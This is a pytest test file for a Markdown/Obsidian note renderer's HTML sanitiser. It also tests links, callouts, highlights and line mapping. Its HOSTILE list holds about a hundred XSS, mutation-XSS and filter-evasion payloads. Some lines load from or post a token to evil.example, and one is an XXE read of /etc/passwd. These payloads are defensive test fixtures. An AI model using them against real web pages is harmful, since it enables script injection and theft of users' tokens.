"""Notes as HTML: whatever a note holds, nothing of it runs, loads, or stands in for the page's own controls."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from graphrag.domain.graph import NoteSummary
from graphrag.domain.note import Chunk, Span
from graphrag.domain.report import NotePage, NoteView
from graphrag.server.note_html import _parser, render_note
from tests.e2e.conftest import write_vault
from tests.unit.server.conftest import ServeVault

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=`x` onerror=alert(1)//`>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="/ask" onclick=alert(1)>x</a>',
    '<a href="#token=grag_evil">sign in</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="\\\\evil.example\\x">x</a>',
    '<a name="token" id="token-form">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](#token=grag_evil)",
    "[x](/page/main.js)",
    "[x](file:///etc/passwd)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x](a.png "onerror=alert(1)")',
    '![x" onerror="alert(1)](a.png)',
    "![[x.png|<img src=x onerror=alert(1)>]]",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onmouseover=alert(1)>",
    "[[x|<script>alert(1)</script>]]",
    '[[x"onclick="alert(1)]]',
    "[[javascript:alert(1)]]",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>\"></use></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;inset:0">x</div>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example/"><input name=token><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input autofocus onfocus=alert(1)>',
    '<textarea autofocus onfocus=alert(1)></textarea>',
    '<select autofocus onfocus=alert(1)></select>',
    '<video src=x onerror=alert(1)></video>',
    '<video><source onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)>',
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<slot name=x>",
    '<x-widget is="evil">x</x-widget>',
    '<p class="modal overlay" id="answer" role="alert" tabindex="0" accesskey="x" contenteditable>x</p>',
    '<p data-action="delete" data-line="1" hidden>x</p>',
    '<code class="language-x evil">x</code>',
    "```\"onmouseover=alert(1)\nx\n```",
    "```<img/src/onerror=alert(1)>\nx\n```",
    # Markup that changes when it is read a second time.
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><title><![CDATA[<img src=x onerror=alert(1)>]]></title></svg>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- secret remark -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><?php echo 1 ?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<a href=\"https://ok.example/\" target=_top rel=opener ping=https://evil.example/>x</a>",
    "<a href='https://ok.example/' onmouse\u0000over='alert(1)'>x</a>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "> <script>alert(1)</script>\n> [!note]- <img src=x onerror=alert(1)>",
    "> [!note]+ [x](javascript:alert(1)) ![](x\"onerror=alert(1))\n> <script>alert(1)</script>",
    "> [!x\" onclick=alert(1)] x",
    "> [!note|\" onclick=alert(1)] x",
    "> [!<img src=x onerror=alert(1)>] x",
    "> [!note]- </summary></details><script>alert(1)</script>\n> </details></blockquote><script>alert(1)</script>",
    "==<img src=x onerror=alert(1)>== ==</mark><script>alert(1)</script>==",
    "<details class='framed-note modal' open=evil onclick=alert(1)><summary class='brand' id=x>x</summary>x</details>",
    "<p class=problem>x</p> <blockquote class='callout callout-warn' id=answer>x</blockquote>",
    "- [ ] <img src=x onerror=alert(1)>",
    "</template></div></main><script>alert(1)</script>",
    "<" * 2_000,
    "<b>" * 300,
    "[" * 500,
    "> " * 200 + "x",
]  # fmt: skip
TAGS = frozenset(
    (  # noqa: SIM905
        "a abbr b blockquote br caption cite code dd del details div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i "
        "ins kbd li mark ol p pre q s samp small span strong sub summary sup table tbody td tfoot th thead tr u ul var"
    ).split()
)
ATTRIBUTES = {
    "href": re.compile(r"#/note/[^\"<>\s]+|https?://[^\"<>\s]+|mailto:[^\"<>\s]+"),
    "rel": re.compile("noopener noreferrer nofollow"),
    "class": re.compile(r"language-[\w+#.-]+|image|unresolved|framed-(?:title|note|tip|warning|danger|quote)"),
    "open": re.compile(""),
    "data-line": re.compile(r"\d+"),
    "data-end": re.compile(r"\d+"),
    "start": re.compile(r"\d+"),
    "colspan": re.compile(r"\d+"),
    "rowspan": re.compile(r"\d+"),
}


class Reader(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.remarks: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.remarks.append(data)

    def handle_decl(self, decl: str) -> None:
        self.remarks.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.remarks.append(data)

    def handle_pi(self, data: str) -> None:
        self.remarks.append(data)


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


def page_of(text: str, path: str = "a.md", body_line: int = 1, **targets: str) -> NotePage:
    summary = NoteSummary(path, "a", (), (), "", None, None)
    return NotePage(NoteView(summary, (), (), (), ()), text, body_line, targets)


def check_harmless(html: str) -> None:
    reader = read(html)
    assert not reader.remarks
    for tag, attributes in reader.tags:
        assert tag in TAGS, html
        for name, value in attributes.items():
            assert name in ATTRIBUTES and ATTRIBUTES[name].fullmatch(value), html


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_a_hostile_note_is_left_that_could_act(text: str) -> None:
    for whole in (text, f"前言 {text} 后语", f"# 标题\n\n{text}\n\n段落", f"1. 一\n   {text}\n2. 二"):
        check_harmless(render_note(page_of(whole)))


@pytest.mark.parametrize("text", HOSTILE)
def test_what_was_made_safe_stays_so_when_it_is_read_again(text: str) -> None:
    once = render_note(page_of(text))
    assert render_note(page_of(once)).count("<a ") <= once.count("<a ")
    check_harmless(render_note(page_of(once)))


def test_hostile_notes_through_the_endpoint(serve_vault: ServeVault, tmp_path: Path) -> None:
    usable = [text for text in HOSTILE if "\0" not in text]
    notes = {f"n{number}.md": f"# 鲸鱼 {number}\n\n{text}\n" for number, text in enumerate(usable)}
    served = serve_vault(write_vault(tmp_path / "hostile", notes))
    for name in notes:
        reply = served.get(f"/notes/{name}")
        assert reply.headers["content-type"] == "application/json"
        check_harmless(reply.json()["html"])


def test_what_a_note_says_is_still_there() -> None:
    text = "# 标题\n\n**粗** ~~删~~ `code` <kbd>Ctrl</kbd> <mark>亮</mark>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    text += "\n```python\nx = 1\n```\n"
    html = render_note(page_of(text))
    for part in ("<strong>粗</strong>", "<s>删</s>", "<code>code</code>", "<kbd>Ctrl</kbd>", "<mark>亮</mark>", "<td"):
        assert part in html
    assert read(html).text.split() == ["标题", "粗", "删", "code", "Ctrl", "亮", "a", "b", "1", "2", "x", "=", "1"]
    assert 'class="language-python"' in html


def test_blocks_say_which_lines_they_stand_for() -> None:
    text = "---\ntags: [a]\n---\n# 标题\n\n一\n二\n\n- 甲\n- 乙\n\n```\nx\n```\n\n| a |\n|---|\n| 1 |\n"
    tags = read(render_note(page_of(text, body_line=4))).tags
    lines = {tag: (found["data-line"], found["data-end"]) for tag, found in tags if "data-line" in found}
    assert lines["h1"] == ("4", "4") and lines["p"] == ("6", "7") and lines["ul"] == ("9", "10")
    assert lines["li"] == ("10", "10") and lines["code"] == ("12", "14") and lines["table"] == ("16", "18")


def test_links_to_notes_lead_into_the_page_and_others_nowhere() -> None:
    text = "[[支付模块|付]] ![[图.png]] [[没有]] [甲](../人物/张三.md#简介) [乙](missing.md) <https://ok.example/a?b=1&c=2>"
    targets = {"支付模块": "支付/支付 模块.md", "../人物/张三.md": "人物/张三.md"}
    html = render_note(NotePage(page_of("").view, text, 1, targets))
    links = [found.get("href") for tag, found in read(html).tags if tag == "a"]
    assert links == [
        "#/note/%E6%94%AF%E4%BB%98/%E6%94%AF%E4%BB%98%20%E6%A8%A1%E5%9D%97.md",
        "#/note/%E4%BA%BA%E7%89%A9/%E5%BC%A0%E4%B8%89.md",
        None,
        "https://ok.example/a?b=1&c=2",
    ]
    assert '<span class="image">图.png</span>' in html and '<span class="unresolved">没有</span>' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_links_in_code_are_text() -> None:
    html = render_note(
        NotePage(page_of("").view, "`[[支付模块]]`\n\n```\n[[支付模块]]\n```\n", 1, {"支付模块": "a.md"})
    )
    assert "<a" not in html and read(html).text.split() == ["[[支付模块]]"] * 2


@pytest.mark.parametrize(
    ("text", "marked"),
    [
        ("==亮== 和 ==a b==", ["亮", "a b"]),
        ("中文==“引用”==中文", ["“引用”"]),
        ("==**粗** 字== **==里==** ~~==删==~~", ["粗 字", "里", "删"]),
        ("[==名==](https://ok.example/) ==[[n]]==", ["名", "n"]),
        ("# ==标题==\n\n- ==项==\n\n> ==引==\n\n| ==格== |\n|---|\n", ["标题", "项", "引", "格"]),
        ("==a `b== c` d==", ["a b== c d"]),
        ("==a\nb==", ["a\nb"]),
        ("==a **b== c**", ["a **b"]),
        ("a==b==c x == y == z", []),
        ("===x=== ==== == x== ==x ==", []),
        ("if (a !== b) c(x==y, y==z)", []),
        ("\\==x== https://ok.example/?a==b==c <https://ok.example/?==b==>", []),
        ("`==x==` ``==`==``\n\n    ==x==\n\n```\n==x==\n```\n", []),
        ("[[==n==]]", []),
    ],
)
def test_marks_are_shown_where_obsidian_has_them_and_never_in_code(text: str, marked: list[str]) -> None:
    html = render_note(page_of(text))
    check_harmless(html)
    assert [read(part).text for part in re.findall(r"<mark>(.*?)</mark>", html, re.DOTALL)] == marked
    check_nested(text)


def check_nested(text: str) -> None:
    """Check that each tag ends before the one around it does, before anything is cleaned."""
    opened: list[str] = []
    for block in _parser().parse(text, {"targets": {}, "first": 1}):
        for token in (block, *(block.children or ())):
            if token.nesting > 0:
                opened.append(token.tag)
            elif token.nesting < 0:
                assert opened.pop() == token.tag, text
    assert not opened


def callouts_of(html: str) -> list[tuple[str, str, str, bool]]:
    """Return tag, class, title and whether it is open, of each block with a title."""
    block = r"<(\w+) class=\"(framed-\w+)\"([^>]*)>\s*<(?:p|summary) class=\"framed-title\"[^>]*>(.*?)</(?:p|summary)>"
    return [(tag, look, read(title).text, "open" in rest) for tag, look, rest, title in re.findall(block, html)]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("> [!note] 标题", [("blockquote", "framed-note", "标题", False)]),
        ("> [!TIP] a **b**\n> c", [("blockquote", "framed-tip", "a b", False)]),
        ("> [!caution]- 折\n> 内", [("details", "framed-warning", "折", False)]),
        ("> [!bug]+\n> 内", [("details", "framed-danger", "Bug", True)]),
        ("> [!我的-类型|wide]\n> 内", [("blockquote", "framed-note", "我的 类型", False)]),
        ("> [!quote] 甲 & 乙 < 丙", [("blockquote", "framed-quote", "甲 & 乙 < 丙", False)]),
        (
            "> [!todo] 外\n> > [!fail]- 里\n> > 内\n>\n> 后",
            [("blockquote", "framed-note", "外", False), ("details", "framed-danger", "里", False)],
        ),
        ("1. 一\n   > [!faq] 问\n   > 答", [("blockquote", "framed-warning", "问", False)]),
        ("> 引\n> [!note] 不是", []),
        ("> 引\n>\n> [!note] 不是", []),
        ("> \\[!note] 不是", []),
        ("> `[!note]` 不是", []),
        ("[!note] 不是", []),
        ("> [note] 不是\n\n> [!] 不是\n\n> [! note] 不是", []),
        ("```\n> [!note] 不是\n```\n\n    > [!note] 不是\n\n>     [!note] 不是", []),
    ],
)
def test_callouts_are_blocks_with_a_title(text: str, found: list[tuple[str, str, str, bool]]) -> None:
    html = render_note(page_of(text))
    check_harmless(html)
    assert callouts_of(html) == found
    assert "[!" not in read(html).text or not found
    check_nested(text)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("text", ["> [!a]- b\n> c\n\n" * 1_000, "> " * 200 + "[!a]- b", ">> [!a]\n" * 1_000])
def test_many_callouts_are_shown_in_bounded_time(text: str) -> None:
    check_harmless(render_note(page_of(text)))
    check_nested(text)


def test_title_and_text_of_a_callout_say_their_lines_and_keep_their_links() -> None:
    text = "前\n\n> [!tip]- 见 [[支付模块]]\n> 一\n> 二\n>\n> - ==三==\n"
    html = render_note(NotePage(page_of("").view, text, 1, {"支付模块": "a.md"}))
    lines = [(tag, found["data-line"], found["data-end"]) for tag, found in read(html).tags if "data-line" in found]
    assert lines[1:] == [
        ("details", "3", "7"),
        ("summary", "3", "3"),
        ("p", "4", "5"),
        ("ul", "7", "7"),
        ("li", "7", "7"),
    ]
    assert 'href="#/note/a.md"' in html and "<mark>三</mark>" in html
    assert read(html).text.split() == ["前", "见", "支付模块", "一", "二", "三"]


def test_a_picture_is_told_in_words() -> None:
    html = render_note(page_of("![架构 **图** <b>](https://evil.example/p.png)"))
    assert html.count("<span") == 1 and "evil" not in html and "架构 图" in read(html).text


@pytest.mark.timeout(60)
@pytest.mark.parametrize("piece", ["[", "![", "[[", "[x](", "`", "**", "<b>", "|a", "<a href='", "==", "==a ", "a== "])
def test_a_note_of_a_megabyte_of_brackets_is_shown_in_bounded_time(piece: str) -> None:
    html = render_note(page_of(piece * (1_000_000 // len(piece))))
    check_harmless(html)
    assert read(html).text.strip()[-1:] in ("…", "")


def test_a_canvas_is_its_cards() -> None:
    chunk = Chunk("c", "画布.canvas", "画布", (), 0, "**卡片** [[支付模块]] <script>x</script>", Span(0, 9, 3, 5))
    view = NoteView(NoteSummary("画布.canvas", "画布", (), (), "", None, None), (chunk,), (), (), ())
    html = render_note(NotePage(view, '{"nodes": []}', 1, {"支付模块": "支付/支付模块.md"}))
    check_harmless(html)
    assert '<div data-line="3" data-end="5">' in html and "<strong>卡片</strong>" in html and "#/note/" in html
    assert "nodes" not in html


def test_links_of_a_real_note_lead_where_the_index_has_them(serve_vault: ServeVault, tmp_path: Path) -> None:
    notes = {
        "a/甲.md": "见 [[乙]]、[[丙#节|别名]]、[[别称]]、[丁](丁.md) 和 [[私]]。",
        "a/乙.md": "近",
        "b/乙.md": "远",
        "b/丙.md": "丙",
        "c.md": "---\naliases: [别称]\n---\n",
        "a/丁.md": "丁",
        "私.md": "今天还公开",
    }
    served = serve_vault(write_vault(tmp_path / "v", notes))
    (served.app.vault / "私.md").write_text("---\nprivate: true\n---\n", "utf-8")
    html = served.get("/notes/a/甲.md").json()["html"]
    links = [found["href"].removeprefix("#/note/") for tag, found in read(html).tags if tag == "a"]
    assert links == ["a/%E4%B9%99.md", "b/%E4%B8%99.md", "c.md", "a/%E4%B8%81.md"]
    assert read(html).text.strip() == "见 乙、别名、别称、丁 和 私。"


def render_page(text: str) -> str:
    return render_note(page_of(text))


def _words(html: str) -> str:
    """Return what a reader sees of HTML, blanks joined."""
    seen: list[str] = []

    class Reader(HTMLParser):
        def handle_data(self, data: str) -> None:
            seen.append(data)

    Reader(convert_charrefs=True).feed(html)
    return " ".join("".join(seen).split())


@pytest.mark.parametrize(
    "text",
    [
        "先讲 <script> 标签\n\n再讲 *重点* 与 <title> 元素\n\n末尾",
        "<title>\n\n第二段\n\n末尾",
        "<style>\n没有关\n\n# 标题\n\n末尾",
        "<!-- 忘了关\n\n# 标题\n\n末尾",
        "泛型 List<String> 与 <log-in> 元素，a <b and c> d\n\n末尾",
        "<textarea> 与 <iframe> 与 <svg>\n\n末尾",
    ],
)
def test_an_unclosed_tag_is_text_and_swallows_nothing(text: str) -> None:
    shown = _words(render_page(text))
    assert shown.endswith("末尾")
    assert shown.replace(" ", "") == re.sub(r"(?m)^# |[\s*]", "", text)


def test_a_block_of_html_that_holds_paragraphs_stays_one() -> None:
    html = render_page("<details>\n<summary>题</summary>\n\n里面 **重**\n\n</details>\n\n外面")
    assert re.search(r"<details>.*里面.*</details>.*外面", html, re.DOTALL)
    assert "<b>" not in render_page("一 <b>二\n\n三").partition("三")[0].rpartition("<p")[2]


def test_footnotes_formulas_comments_and_sizes_show_as_what_they_are() -> None:
    html = render_page(
        "甲[^1] %%旁注%%，$a_1*b*c_2$ 与 $$x_i * y_i$$，![[图.png|480]] ![猫|120x80](c.png)"
        "\n\n[^1]: 出自 *乙*\n[^2]: 丙"
    )
    assert _words(html) == "甲1 ，$a_1*b*c_2$ 与 $$x_i * y_i$$，图.png 猫 1 出自 乙 2 丙"
    assert "<em>" in html.partition("出自")[2]
    assert "<em>" not in html.partition("出自")[0]
